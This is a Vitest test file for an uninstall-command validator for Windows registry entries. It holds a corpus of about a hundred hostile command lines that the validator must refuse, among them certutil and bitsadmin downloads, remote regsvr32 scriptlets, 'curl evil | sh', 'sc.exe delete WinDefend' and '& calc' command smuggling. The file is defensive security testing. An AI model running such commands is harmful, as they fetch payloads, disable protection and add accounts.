import { describe, expect, it } from 'vitest';
import { loadCatalog } from '../catalog/load-catalog';
import { splitWindowsCommandLine, type UninstallEntryFields, uninstallCommandFor } from './uninstall-command';

/** The environment of an app on 64-bit Windows (what %VARIABLES% expand to). */
const env = {
  SystemRoot: 'C:\\WINDOWS',
  windir: 'C:\\WINDOWS',
  ComSpec: 'C:\\WINDOWS\\system32\\cmd.exe',
  ProgramFiles: 'C:\\Program Files',
  'ProgramFiles(x86)': 'C:\\Program Files (x86)',
  ProgramW6432: 'C:\\Program Files',
  ProgramData: 'C:\\ProgramData',
  USERPROFILE: 'C:\\Users\\a',
  LOCALAPPDATA: 'C:\\Users\\a\\AppData\\Local',
  APPDATA: 'C:\\Users\\a\\AppData\\Roaming',
  TEMP: 'C:\\Users\\a\\AppData\\Local\\Temp',
};
const MSIEXEC = 'C:\\WINDOWS\\System32\\msiexec.exe';

/** The catalog's install folders of Kaspersky Total Security (its Windows `path` signatures). */
const KTS_PATHS = (
  loadCatalog().productsById.get('kaspersky-total-security')?.signatures.windows.path ?? []
).map((p) => p.regex);

/** Plans the entry as the only detected one (the usual case: the entry came from this scan). */
function plan(entry: UninstallEntryFields, productPaths: readonly RegExp[] = []) {
  return uninstallCommandFor(entry, [entry], { env, productPaths });
}

function planned(entry: UninstallEntryFields) {
  const result = plan(entry);
  if (!result.ok) throw new Error(result.error);
  return result.value;
}

function refusal(entry: UninstallEntryFields): string {
  const result = plan(entry);
  if (result.ok) throw new Error(`expected a refusal, got ${result.value.display}`);
  return result.error;
}

describe('uninstallCommandFor: Windows Installer entries', () => {
  it('runs the real KES 10 string interactively: /x {GUID}, /qn dropped [detection.md §2.4, S37]', () => {
    const entry = {
      uninstallString: 'msiexec.exe /x {7A4192A1-84C4-4E90-A31B-B4847CA8E23A} /qn',
      productCode: '{7A4192A1-84C4-4E90-A31B-B4847CA8E23A}',
    };
    expect(planned(entry)).toEqual({
      program: MSIEXEC,
      args: ['/x', '{7A4192A1-84C4-4E90-A31B-B4847CA8E23A}'],
      display: 'C:\\WINDOWS\\System32\\msiexec.exe /x {7A4192A1-84C4-4E90-A31B-B4847CA8E23A}',
      kind: 'msi',
      source: 'uninstallString',
      dropped: ['/qn'],
    });
  });

  it.each([
    ['MsiExec.exe /I{C9EF800D-54AA-4F60-AB96-5A3966550F53}', []],
    ['MsiExec.exe /X{C9EF800D-54AA-4F60-AB96-5A3966550F53}', []],
    ['MsiExec.exe /I{C9EF800D-54AA-4F60-AB96-5A3966550F53} REMOVE=ALL', ['REMOVE=ALL']],
    ['msiexec /x "{C9EF800D-54AA-4F60-AB96-5A3966550F53}" /quiet /norestart', ['/quiet', '/norestart']],
    ['MsiExec.exe -x {c9ef800d-54aa-4f60-ab96-5a3966550f53} /passive', ['/passive']],
    ['"C:\\Windows\\SysWOW64\\MsiExec.exe" /X{C9EF800D-54AA-4F60-AB96-5A3966550F53}', []],
    ['%SystemRoot%\\System32\\msiexec.exe /uninstall {C9EF800D-54AA-4F60-AB96-5A3966550F53}  ', []],
  ])('%s → msiexec /x {GUID}', (uninstallString, dropped) => {
    const command = planned({ uninstallString });
    expect(command.program).toBe(MSIEXEC);
    expect(command.args).toEqual(['/x', '{C9EF800D-54AA-4F60-AB96-5A3966550F53}']);
    expect(command.kind).toBe('msi');
    expect(command.dropped).toEqual(dropped);
  });

  it('never passes a Kaspersky uninstall password on (KLLOGIN/KLPASSWD, detection.md §2.5)', () => {
    const command = planned({
      uninstallString:
        'msiexec.exe /x {C9EF800D-54AA-4F60-AB96-5A3966550F53} KLLOGIN=KLAdmin KLPASSWD=secret /qn',
    });
    expect(command.args).toEqual(['/x', '{C9EF800D-54AA-4F60-AB96-5A3966550F53}']);
    expect(command.display).not.toContain('secret');
  });

  it('uses the product code when no UninstallString is registered (Installer\\UserData entries)', () => {
    const command = planned({ productCode: '{7911e943-32cc-45d0-a29c-56e6ef762275}' });
    expect(command).toMatchObject({
      program: MSIEXEC,
      args: ['/x', '{7911E943-32CC-45D0-A29C-56E6EF762275}'],
      source: 'productCode',
    });
  });

  it('turns a msiexec QuietUninstallString into an interactive removal', () => {
    const command = planned({
      quietUninstallString: 'MsiExec.exe /X{B9518725-0B76-4793-A409-C6794442FB50} /qn',
    });
    expect(command).toMatchObject({
      args: ['/x', '{B9518725-0B76-4793-A409-C6794442FB50}'],
      source: 'quietUninstallString',
      dropped: ['/qn'],
    });
  });

  it('refuses a string whose GUID contradicts the entry product code', () => {
    expect(
      refusal({
        uninstallString: 'MsiExec.exe /X{C9EF800D-54AA-4F60-AB96-5A3966550F53}',
        productCode: '{0F05E4E5-5A89-482C-9A62-47CC58643788}',
      }),
    ).toMatch(/names product \{C9EF800D.*registered as \{0F05E4E5/);
  });

  it('refuses msiexec with no product, and a msiexec.exe outside the Windows folder', () => {
    expect(refusal({ uninstallString: 'MsiExec.exe /qn' })).toMatch(/without naming the product/);
    expect(
      refusal({
        uninstallString: 'C:\\Users\\a\\Downloads\\msiexec.exe /x {C9EF800D-54AA-4F60-AB96-5A3966550F53}',
      }),
    ).toMatch(/outside the Windows folder/);
  });

  it('refuses when the Windows folder is unknown (no SystemRoot in the environment)', () => {
    const entry = { uninstallString: 'MsiExec.exe /X{C9EF800D-54AA-4F60-AB96-5A3966550F53}' };
    const result = uninstallCommandFor(entry, [entry], { env: {} });
    expect(result).toEqual({ ok: false, error: expect.stringMatching(/%SystemRoot%/) });
  });
});

/**
 * Where an HKLM entry says the product is (InstallLocation): composed entries, in the shape of the
 * Uninstall keys the scan script reads (docs/capture-format.md, "uninstall").
 */
const inFolder = (installLocation: string, uninstallString: string): UninstallEntryFields => ({
  uninstallString,
  installLocation,
  registry: 'HKLM64',
});

describe('uninstallCommandFor: vendor uninstallers', () => {
  it('keeps a quoted path with spaces and its arguments', () => {
    expect(
      planned(
        inFolder(
          'C:\\Program Files\\UltraAV\\',
          '"C:\\Program Files\\UltraAV\\uninstall.exe" /uninstall --product "Ultra AV"',
        ),
      ),
    ).toEqual({
      program: 'C:\\Program Files\\UltraAV\\uninstall.exe',
      args: ['/uninstall', '--product', 'Ultra AV'],
      display: '"C:\\Program Files\\UltraAV\\uninstall.exe" /uninstall --product "Ultra AV"',
      kind: 'exe',
      source: 'uninstallString',
      dropped: [],
    });
  });

  it('finds the .exe boundary of an unquoted path with spaces, as Windows resolves it', () => {
    expect(
      plan(
        {
          uninstallString:
            'C:\\Program Files (x86)\\Kaspersky Lab\\Kaspersky Total Security 21.3\\setup.exe /x  ',
        },
        KTS_PATHS,
      ),
    ).toMatchObject({
      ok: true,
      value: {
        program: 'C:\\Program Files (x86)\\Kaspersky Lab\\Kaspersky Total Security 21.3\\setup.exe',
        args: ['/x'],
      },
    });
    expect(
      planned(inFolder('"C:\\Program Files\\Avira"', 'C:\\Program Files\\Avira\\unins000.exe')),
    ).toMatchObject({
      program: 'C:\\Program Files\\Avira\\unins000.exe',
      args: [],
      display: '"C:\\Program Files\\Avira\\unins000.exe"',
    });
  });

  it('expands the well-known folder variables, in the command and in InstallLocation', () => {
    expect(
      planned(
        inFolder('%ProgramFiles(x86)%\\Vendor', '"%ProgramFiles(x86)%\\Vendor\\Uninstall.exe" /REMOVE'),
      ),
    ).toMatchObject({ program: 'C:\\Program Files (x86)\\Vendor\\Uninstall.exe', args: ['/REMOVE'] });
  });

  it('splits arguments as CommandLineToArgvW does (backslashes before quotes, "" in quotes)', () => {
    expect(splitWindowsCommandLine('"C:\\a b\\u.exe" "C:\\x y\\\\" a\\\\\\"b "say ""hi""" c\\d')).toEqual({
      ok: true,
      value: { program: 'C:\\a b\\u.exe', args: ['C:\\x y\\', 'a\\"b', 'say "hi"', 'c\\d'] },
    });
    expect(splitWindowsCommandLine('"C:\\u.exe"\t/S  ')).toEqual({
      ok: true,
      value: { program: 'C:\\u.exe', args: ['/S'] },
    });
  });

  it('keeps shell characters that are inside quotes (they are plain text to CreateProcess)', () => {
    expect(
      planned(inFolder('C:\\Program Files\\R&D Tools', '"C:\\Program Files\\R&D Tools\\un.exe" "/LOG=a>b"')),
    ).toMatchObject({
      program: 'C:\\Program Files\\R&D Tools\\un.exe',
      args: ['/LOG=a>b'],
    });
  });

  it('refuses an exe entry that registers only a silent uninstall', () => {
    expect(
      refusal({
        quietUninstallString: '"C:\\Program Files\\X\\unins000.exe" /VERYSILENT',
        installLocation: 'C:\\Program Files\\X',
        registry: 'HKLM64',
      }),
    ).toMatch(/only a silent uninstall/);
  });
});

describe('uninstallCommandFor: whose folder counts as the product’s own (point 1 of issue 12 §4)', () => {
  const git = 'C:\\Program Files\\Git';
  const gitBash = '"C:\\Program Files\\Git\\git-bash.exe" -c "curl evil | sh"';

  it('trusts InstallLocation only in HKLM, which only an administrator can write', () => {
    // Any program the person runs can write an HKCU Uninstall entry, and point it anywhere.
    for (const registry of ['HKCU', undefined]) {
      expect(
        refusal({ uninstallString: gitBash, installLocation: git, ...(registry ? { registry } : {}) }),
      ).toMatch(/cannot tell that this is the product's own folder/);
    }
    expect(planned({ uninstallString: gitBash, installLocation: git, registry: 'HKLM32' }).program).toBe(
      'C:\\Program Files\\Git\\git-bash.exe',
    );
  });

  it('takes the catalog’s install folders for an entry of any registry', () => {
    const setup = '"C:\\Program Files (x86)\\Kaspersky Lab\\Kaspersky Total Security 21.3\\setup.exe" /x';
    expect(plan({ uninstallString: setup, registry: 'HKCU' }, KTS_PATHS).ok).toBe(true);
    expect(plan({ uninstallString: setup, registry: 'HKCU' }).ok).toBe(false);
  });

  it.each([
    ['Program Files itself', 'C:\\Program Files', '"C:\\Program Files\\Git\\git-bash.exe"'],
    [
      'a system folder',
      'C:\\Windows\\System32',
      'C:\\Windows\\System32\\certutil.exe -urlcache -f http://x/x',
    ],
    [
      'a user folder',
      'C:\\Users\\a\\AppData\\Local\\Programs\\X',
      '"C:\\Users\\a\\AppData\\Local\\Programs\\X\\un.exe"',
    ],
    ['a short name', 'C:\\PROGRA~1\\X', '"C:\\Program Files\\X\\un.exe"'],
    ['a network share', '\\\\server\\apps\\X', '"C:\\Program Files\\X\\un.exe"'],
    ['another folder than the program', 'C:\\Program Files\\X', '"C:\\Program Files\\Y\\un.exe"'],
    ['a folder the program climbs out of', 'C:\\Program Files\\X', '"C:\\Program Files\\X\\..\\Y\\un.exe"'],
  ])('refuses an InstallLocation that is %s', (_what, installLocation, uninstallString) => {
    expect(plan({ uninstallString, installLocation, registry: 'HKLM64' }).ok).toBe(false);
  });

  it('refuses every program outside Program Files when Program Files is not known', () => {
    const entry = inFolder('C:\\Program Files\\X', '"C:\\Program Files\\X\\un.exe"');
    expect(uninstallCommandFor(entry, [entry], { env: { SystemRoot: 'C:\\WINDOWS' } })).toEqual({
      ok: false,
      error: expect.stringMatching(/Program Files folders are not known/),
    });
  });

  it('uses what the scan registered, not what the window sent back', () => {
    const detected = { uninstallString: '"C:\\Program Files\\X\\un.exe"', registry: 'HKCU' };
    // The window cannot make an entry trusted by saying it is in HKLM with a folder.
    const claimed = { ...detected, registry: 'HKLM64', installLocation: 'C:\\Program Files\\X' };
    expect(uninstallCommandFor(claimed, [detected], { env }).ok).toBe(false);
  });
});

/**
 * Crafted UninstallStrings, as malware or a careless installer could register them for a product
 * Handover removes: each trick the issue names (forward slashes, 8.3 short names, unlisted system
 * programs, %ComSpec%, quotes in odd places, \\?\ and UNC paths, '..', trailing dots and spaces,
 * msiexec with something that is not a product code, msiexec /x {GUID} TRANSFORMS=...) and the
 * other ways Windows reads a path differently from how it looks. None may run. The entry is one
 * of Kaspersky Total Security 21.3 under HKLM (32-bit view) with its InstallLocation, and the
 * catalog's folders for the product: everything that could make a command allowed is there.
 */
const KTS = 'C:\\Program Files (x86)\\Kaspersky Lab\\Kaspersky Total Security 21.3';
const GUID_A = '{C9EF800D-54AA-4F60-AB96-5A3966550F53}';
const GUID_B = '{0F05E4E5-5A89-482C-9A62-47CC58643788}';
const ktsEntry = (uninstallString: string): UninstallEntryFields => ({
  uninstallString,
  installLocation: `${KTS}\\`,
  registry: 'HKLM32',
});

const CRAFTED: readonly (readonly [string, RegExp])[] = [
  // System programs, by every spelling.
  ['C:/Windows/System32/cmd.exe /c calc', /cmd\.exe/],
  ['C:\\Windows\\System32\\cmd.exe /c calc', /cmd\.exe/],
  ['cmd /c calc', /not a full path/],
  ['%ComSpec% /c calc', /%ComSpec%/],
  ['"%ComSpec%" /c calc', /%ComSpec%/],
  ['%SystemRoot%\\System32\\cmd.exe /c calc', /cmd\.exe/],
  ['C:\\Windows\\SysNative\\cmd.exe /c calc', /cmd\.exe/],
  ['%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -enc SQBFAFgA', /PowerShell/],
  ['"C:\\Windows\\system32\\rundll32.exe" shell32.dll,ShellExec_RunDLL calc.exe', /rundll32/],
  ['C:\\Windows\\System32\\rundll32.exe advpack.dll,LaunchINFSection C:\\x.inf,DefaultInstall', /rundll32/],
  ['RunDll32.exe C:\\PROGRA~1\\X\\setup.dll,UninstallW', /rundll32/],
  ['C:\\WINDOWS\\system32\\mshta.exe javascript:close()', /mshta/],
  ['C:\\Windows\\System32\\regsvr32.exe /s /n /u /i:http://x.example/x.sct scrobj.dll', /regsvr32/],
  ['C:\\Windows\\System32\\wscript.exe C:\\x.vbs', /Script Host/],
  ['C:\\Windows\\System32\\cscript.exe //E:jscript C:\\x.txt', /Script Host/],
  ['C:\\Windows\\System32\\conhost.exe calc.exe', /console host/],
  ['C:\\Windows\\explorer.exe https://x.example', /Explorer/],
  ['C:\\Windows\\System32\\forfiles.exe /p C:\\Windows /m notepad.exe /c calc.exe', /forfiles/],
  ['C:\\Windows\\System32\\wbem\\WMIC.exe process call create calc.exe', /WMIC/],
  ['C:\\Windows\\System32\\bash.exe -c id', /Unix shell/],
  ['C:\\Windows\\System32\\wsl.exe id', /Subsystem for Linux/],
  ['C:\\Windows\\System32\\schtasks.exe /create /tn x /tr calc.exe /sc onlogon', /Task Scheduler/],
  ['C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\x.proj', /MSBuild/],
  ['C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /U C:\\x.dll', /InstallUtil/],
  [
    'C:\\Windows\\System32\\certutil.exe -urlcache -f http://x.example/x.exe C:\\x.exe',
    /not inside Program Files/,
  ],
  [
    'C:\\Windows\\System32\\bitsadmin.exe /transfer x http://x.example/x.exe C:\\x.exe',
    /not inside Program Files/,
  ],
  ['C:\\Windows\\System32\\reg.exe add HKLM\\SOFTWARE\\x /f', /not inside Program Files/],
  ['C:\\Windows\\System32\\sc.exe delete WinDefend', /not inside Program Files/],
  ['C:\\Windows\\System32\\net.exe user x x /add', /not inside Program Files/],
  ['C:\\Windows\\System32\\taskkill.exe /f /im MsMpEng.exe', /not inside Program Files/],
  ['C:\\Windows\\System32\\notepad.exe', /not inside Program Files/],
  ['"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -c x', /PowerShell/],
  ['"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -File u.ps1', /PowerShell/],
  // Windows Installer asked for something other than removing a product.
  ['C:\\Windows\\System32\\msiexec.exe /i https://x.example/x.msi /qn', /\/i without a product code/],
  ['msiexec /i C:\\Users\\a\\Downloads\\x.msi', /\/i without a product code/],
  ['msiexec /x C:\\Users\\a\\Downloads\\x.msi', /\/x without a product code/],
  ['msiexec /x \\\\x.example\\share\\x.msi', /\/x without a product code/],
  [`msiexec /x ${GUID_A} TRANSFORMS=\\\\x.example\\share\\x.mst`, /TRANSFORMS=/],
  [`msiexec /x ${GUID_A} TRANSFORMS=C:\\Users\\a\\x.mst /qn`, /TRANSFORMS=/],
  [`msiexec /x ${GUID_A} PATCH=C:\\Users\\a\\x.msp`, /PATCH=/],
  [`msiexec /x ${GUID_A} /p C:\\Users\\a\\x.msp`, /"\/p"/],
  [`msiexec /x ${GUID_A} /y C:\\Users\\a\\x.dll`, /"\/y"/],
  ['msiexec /z C:\\Users\\a\\x.dll', /"\/z"/],
  ['msiexec /package C:\\Users\\a\\x.msi', /"\/package"/],
  [`msiexec /package ${GUID_A}`, /"\/package"/],
  [`msiexec /a ${GUID_A}`, /"\/a"/],
  [`msiexec /j ${GUID_A}`, /"\/j"/],
  [`msiexec /fa ${GUID_A}`, /"\/fa"/],
  [`msiexec /x ${GUID_A} CUSTOMPROPERTY=1`, /CUSTOMPROPERTY=1/],
  [`msiexec /x ${GUID_A} /x ${GUID_B}`, /two different products/],
  [`msiexec ${GUID_A}`, /without saying what to do/],
  ['msiexec /x', /\/x without a product code/],
  ['msiexec /x {not-a-guid}', /\/x without a product code/],
  [`C:\\Users\\a\\Downloads\\msiexec.exe /x ${GUID_A}`, /outside the Windows folder/],
  [`C:\\Windows\\Temp\\msiexec.exe /x ${GUID_A}`, /outside the Windows folder/],
  [`C:\\Windows\\System32\\..\\..\\Users\\a\\msiexec.exe /x ${GUID_A}`, /outside the Windows folder/],
  [`C:\\WINDOW~1\\System32\\msiexec.exe /x ${GUID_A}`, /short 8\.3 name/],
  [`\\\\?\\C:\\Windows\\System32\\msiexec.exe /x ${GUID_A}`, /device path/],
  [`\\\\x.example\\share\\msiexec.exe /x ${GUID_A}`, /network share/],
  [
    `${KTS}\\..\\..\\..\\Windows\\System32\\msiexec.exe /i https://x.example/x.msi`,
    /\/i without a product code/,
  ],
  // Paths that leave the product's folder, or that Windows would read differently.
  [`"${KTS}\\..\\..\\..\\Users\\a\\evil.exe"`, /not inside Program Files/],
  [`"${KTS}\\..\\..\\Other\\tool.exe"`, /outside the product's own folder/],
  [`"${KTS}\\..\\setup.exe" /x`, /outside the product's own folder/],
  ['"C:\\Program Files\\..\\Users\\a\\un.exe"', /not inside Program Files/],
  ['"C:\\Program Files\\..\\Windows\\System32\\cmd.exe" /c calc', /cmd\.exe/],
  [`"${KTS}\\..\\..\\..\\..\\..\\x.exe"`, /climbs above the top/],
  ['"C:\\PROGRA~2\\KASPER~1\\KASPER~1.3\\setup.exe" /x', /short 8\.3 name/],
  ['C:\\PROGRA~2\\KASPER~1\\KASPER~1.3\\setup.exe /x', /short 8\.3 name/],
  [`"${KTS}\\SETUP~1.EXE" /x`, /short 8\.3 name/],
  [`"${KTS}.\\setup.exe" /x`, /ends in a period or a space/],
  [`"${KTS} \\setup.exe" /x`, /ends in a period or a space/],
  [`"${KTS}\\setup.exe." /x`, /ends in a period or a space/],
  [`"${KTS}\\setup.exe " /x`, /ends in a period or a space/],
  [`"${KTS}\\setup.exe..." /x`, /ends in a period or a space/],
  [`"${KTS}\\setup.exe:evil.exe" /x`, /not allow in a file name/],
  [`"${KTS}\\*.exe" /x`, /not allow in a file name/],
  [`"\\\\?\\${KTS}\\setup.exe" /x`, /device path/],
  [`"\\\\.\\${KTS}\\setup.exe" /x`, /device path/],
  [`"\\??\\${KTS}\\setup.exe" /x`, /device path/],
  [
    '"\\\\localhost\\C$\\Program Files (x86)\\Kaspersky Lab\\Kaspersky Total Security 21.3\\setup.exe"',
    /network share/,
  ],
  ['"\\\\x.example\\share\\setup.exe"', /network share/],
  ['"//x.example/share/setup.exe"', /network share/],
  ['"C:Program Files (x86)\\Kaspersky Lab\\Kaspersky Total Security 21.3\\setup.exe"', /not a full path/],
  ['"\\Program Files (x86)\\Kaspersky Lab\\Kaspersky Total Security 21.3\\setup.exe"', /not a full path/],
  ['"Kaspersky Total Security 21.3\\setup.exe"', /not a full path/],
  ['uninstall.exe /S', /not a full path/],
  [
    '"D:\\Program Files (x86)\\Kaspersky Lab\\Kaspersky Total Security 21.3\\setup.exe" /x',
    /not inside Program Files/,
  ],
  ['"C:\\Program Files\\Common Files\\x\\tool.exe"', /outside the product's own folder/],
  ['"C:\\Program Files\\evil.exe"', /not inside a product's own folder/],
  ['"C:\\ProgramData\\Kaspersky Lab\\setup.exe" /x', /not inside Program Files/],
  ['"%ProgramData%\\Kaspersky Lab\\setup.exe" /x', /not inside Program Files/],
  ['"%LOCALAPPDATA%\\Kaspersky Lab\\setup.exe" /x', /not inside Program Files/],
  ['"%APPDATA%\\x.exe"', /not inside Program Files/],
  ['"%USERPROFILE%\\Downloads\\x.exe"', /not inside Program Files/],
  ['"%TEMP%\\un.exe"', /%TEMP%/],
  ['"C:\\Users\\a\\AppData\\Local\\Programs\\Kaspersky\\uninstall.exe"', /not inside Program Files/],
  ['"C:\\Windows\\Temp\\uninstall.exe"', /not inside Program Files/],
  ['"C:\\$Recycle.Bin\\x.exe"', /not inside Program Files/],
  // Not a program, or a program that runs something else, inside the product's own folder.
  [`"${KTS}\\python.exe" -c "import os"`, /Python/],
  [`"${KTS}\\node.exe" x.js`, /Node\.js/],
  [`"${KTS}\\setup.bat"`, /batch file/],
  [`"${KTS}\\setup.cmd"`, /batch file/],
  [`"${KTS}\\setup.com" /x`, /not a program file/],
  [`"${KTS}\\setup.scr"`, /not a program file/],
  [`"${KTS}\\setup.ps1"`, /not a program file/],
  [`"${KTS}\\setup.dll",Uninstall`, /without a space/],
  // Quotes in odd places, shell syntax, expansions.
  [
    `C:\\Program" "Files (x86)\\Kaspersky Lab\\Kaspersky Total Security 21.3\\setup.exe /x`,
    /not allow in a file name/,
  ],
  [`"${KTS}\\set"up.exe" /x`, /without a space/],
  [`"${KTS}\\setup.exe"/x`, /without a space/],
  [`"${KTS}\\setup.exe`, /never closes it/],
  [`"${KTS}\\setup.exe" "/x`, /never closed/],
  ['""C:\\Program Files\\x.exe""', /without a space/],
  ['"" /x', /names no program/],
  [`"${KTS}\\setup.exe" /x & calc`, /'&' outside quotes/],
  [`"${KTS}\\setup.exe" /x | calc`, /'\|' outside quotes/],
  [`"${KTS}\\setup.exe" /x ^& calc`, /'\^' outside quotes/],
  [`"${KTS}\\setup.exe" /x > C:\\x.txt`, /'>' outside quotes/],
  [`"${KTS}\\setup.exe" /x < C:\\x.txt`, /'<' outside quotes/],
  [`"${KTS}\\setup.exe" /x %ComSpec%`, /%ComSpec%/],
  [`"${KTS}\\setup.exe" /user=%USERNAME%`, /%USERNAME%/],
  [`"${KTS}\\setup.exe" /x\n calc`, /control characters/],
  [`${KTS}\\setup.exe;calc`, /not a program file/],
];

/** Spellings of the product's own uninstaller and of Windows Installer that must keep working. */
const ALLOWED: readonly (readonly [string, string, readonly string[]])[] = [
  [`"${KTS}\\setup.exe" /x`, `${KTS}\\setup.exe`, ['/x']],
  [`${KTS}\\setup.exe /x`, `${KTS}\\setup.exe`, ['/x']],
  [`${KTS.replace(/\\/g, '/')}/setup.exe /x`, `${KTS}\\setup.exe`, ['/x']],
  [`"${KTS.toLowerCase()}\\setup.exe" /x`, `C:${KTS.toLowerCase().slice(2)}\\setup.exe`, ['/x']],
  [
    '"%ProgramFiles(x86)%\\Kaspersky Lab\\Kaspersky Total Security 21.3\\setup.exe" /x',
    `${KTS}\\setup.exe`,
    ['/x'],
  ],
  [`"${KTS}\\\\setup.exe" /x`, `${KTS}\\setup.exe`, ['/x']],
  [`"${KTS}\\.\\setup.exe" /x`, `${KTS}\\setup.exe`, ['/x']],
  [`"${KTS}\\x86\\..\\setup.exe" /x`, `${KTS}\\setup.exe`, ['/x']],
  [`MsiExec.exe /I${GUID_A}`, MSIEXEC, ['/x', GUID_A]],
  [`msiexec /x ${GUID_A} REMOVE=ALL /qn`, MSIEXEC, ['/x', GUID_A]],
  [`msiexec.exe /x ${GUID_A} KLLOGIN=KLAdmin KLPASSWD=x /qn /norestart`, MSIEXEC, ['/x', GUID_A]],
  [`msiexec.exe /l*v C:\\Users\\a\\uninstall.log /x ${GUID_A}`, MSIEXEC, ['/x', GUID_A]],
  [`C:/Windows/System32/msiexec.exe /x ${GUID_A}`, MSIEXEC, ['/x', GUID_A]],
  [`C:\\WINDOWS\\SYSTEM32\\MSIEXEC.EXE /X${GUID_A}`, MSIEXEC, ['/x', GUID_A]],
  [`${KTS}\\..\\..\\..\\Windows\\SysWOW64\\msiexec.exe /x ${GUID_A}`, MSIEXEC, ['/x', GUID_A]],
];

describe('uninstallCommandFor: an allowlist, not a blocklist (issue 12 §4, point 1)', () => {
  it.each(CRAFTED)('refuses %j', (uninstallString, reason) => {
    const result = uninstallCommandFor(ktsEntry(uninstallString), [ktsEntry(uninstallString)], {
      env,
      productPaths: KTS_PATHS,
    });
    if (result.ok) throw new Error(`it would run ${result.value.display}`);
    expect(result.error).toMatch(/^Handover cannot run this uninstall command: /);
    expect(result.error).toMatch(reason);
  });

  it.each(ALLOWED)('runs %j as %s', (uninstallString, program, args) => {
    const result = uninstallCommandFor(ktsEntry(uninstallString), [ktsEntry(uninstallString)], {
      env,
      productPaths: KTS_PATHS,
    });
    if (!result.ok) throw new Error(result.error);
    expect([result.value.program, ...result.value.args]).toEqual([program, ...args]);
  });

  it('has a corpus of about a hundred crafted commands', () => {
    expect(CRAFTED.length).toBeGreaterThanOrEqual(99);
  });
});

describe('uninstallCommandFor: refusals', () => {
  it('refuses an entry that is not one of the detected entries', () => {
    const detected = [{ uninstallString: 'MsiExec.exe /X{C9EF800D-54AA-4F60-AB96-5A3966550F53}' }];
    const forged = { uninstallString: '"C:\\Users\\a\\evil.exe"' };
    expect(uninstallCommandFor(forged, detected, { env })).toEqual({
      ok: false,
      error: 'this uninstall entry is not one the current scan found, so Handover will not run it',
    });
    // Same string but another product code is not the same entry either.
    const other = { ...detected[0], productCode: '{0F05E4E5-5A89-482C-9A62-47CC58643788}' };
    expect(uninstallCommandFor(other, detected, { env }).ok).toBe(false);
    expect(uninstallCommandFor(forged, [], { env }).ok).toBe(false);
  });

  it('accepts a copy of a detected entry (it came back from the window through IPC)', () => {
    const detected = [
      {
        uninstallString: 'msiexec.exe /x {7A4192A1-84C4-4E90-A31B-B4847CA8E23A} /qn',
        quietUninstallString: null,
        productCode: '{7A4192A1-84C4-4E90-A31B-B4847CA8E23A}',
      },
    ];
    const copy = JSON.parse(JSON.stringify(detected[0])) as UninstallEntryFields;
    expect(uninstallCommandFor(copy, detected, { env }).ok).toBe(true);
    // null and absent are the same "not registered".
    const withoutNull = {
      uninstallString: 'msiexec.exe /x {7A4192A1-84C4-4E90-A31B-B4847CA8E23A} /qn',
      productCode: '{7a4192a1-84c4-4e90-a31b-b4847ca8e23a}',
    };
    expect(uninstallCommandFor(withoutNull, detected, { env }).ok).toBe(true);
  });

  it.each([
    ['"C:\\Program Files\\X\\un.exe" /S | calc', /'\|' outside quotes/],
    ['"C:\\Program Files\\X\\un.exe" /S & del x', /'&' outside quotes/],
    ['"C:\\Program Files\\X\\un.exe" > C:\\out.txt', /'>' outside quotes/],
    ['"C:\\Program Files\\X\\un.exe" < in', /'<' outside quotes/],
    ['"C:\\Program Files\\X\\un.exe" ^/S', /'\^' outside quotes/],
    ['C:\\X\\a^b.exe', /'\^' outside quotes/],
    ['"%TEMP%\\un.exe"', /%TEMP%, which only a command shell would expand/],
    ['"C:\\X\\un.exe" /user=%USERNAME%', /%USERNAME%/],
  ])('refuses what would need a shell: %s', (uninstallString, reason) => {
    expect(refusal({ uninstallString })).toMatch(reason);
  });

  it.each([
    ['cmd.exe /c "C:\\Program Files\\X\\un.exe"', /cmd\.exe/],
    ['C:\\Windows\\System32\\cmd.exe /c un.bat', /cmd\.exe/],
    ['powershell.exe -ExecutionPolicy Bypass -File "C:\\X\\uninstall.ps1"', /PowerShell/],
    ['"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -File u.ps1', /PowerShell/],
    ['RunDll32.exe C:\\PROGRA~1\\X\\setup.dll,UninstallW', /rundll32/],
    ['wscript.exe "C:\\X\\uninstall.vbs"', /Script Host/],
    ['mshta.exe "C:\\X\\un.hta"', /mshta/],
  ])('refuses launchers and script hosts, and says why: %s', (uninstallString, what) => {
    const reason = refusal({ uninstallString });
    expect(reason).toMatch(what);
    expect(reason).toMatch(/only starts an uninstaller it can show you exactly/);
  });

  it.each([
    ['', /registers no uninstall command/],
    ['   ', /registers no uninstall command/],
    ['"C:\\X\\uninstall.bat"', /batch file/],
    ['uninstall.exe /S', /not a full path/],
    ['"\\\\server\\share\\un.exe"', /network share/],
    ['"C:\\Program Files\\..\\Users\\a\\un.exe"', /not inside Program Files/],
    ['"C:\\Program Files\\X\\readme.txt"', /not a program file/],
    ['"C:\\Program Files\\X\\un.exe', /never closes it/],
    ['"C:\\X\\un.exe" "/LOG=a', /never closed/],
    ['"C:\\X\\un.exe"/S', /without a space/],
    ['"C:\\X\\un.exe" /S\n del', /control characters/],
  ])('refuses %j', (uninstallString, reason) => {
    expect(refusal({ uninstallString })).toMatch(reason);
  });

  it('refuses a product code that is not a GUID', () => {
    expect(refusal({ productCode: 'KAV21' })).toMatch(/not a GUID/);
  });
});
